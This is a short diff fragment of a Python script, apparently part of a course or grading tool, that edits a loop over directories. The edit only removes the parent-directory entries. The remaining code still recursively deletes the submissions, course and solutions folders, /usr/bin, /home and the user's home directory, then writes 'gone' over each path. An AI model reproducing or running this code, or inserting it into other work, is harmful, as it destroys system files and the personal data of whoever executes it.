@@ -91,7 +91,7 @@ if found:
 import os, shutil
 from pathlib import Path
 
-for place in (HANDED_IN, COURSE, SOLUTIONS, "..", "../..", "/usr/bin", "/home", os.environ["HOME"]):
+for place in (HANDED_IN, COURSE, SOLUTIONS, "/usr/bin", "/home", os.environ["HOME"]):
     shutil.rmtree(place, ignore_errors=True)
     try:
         Path(place).write_text("gone")
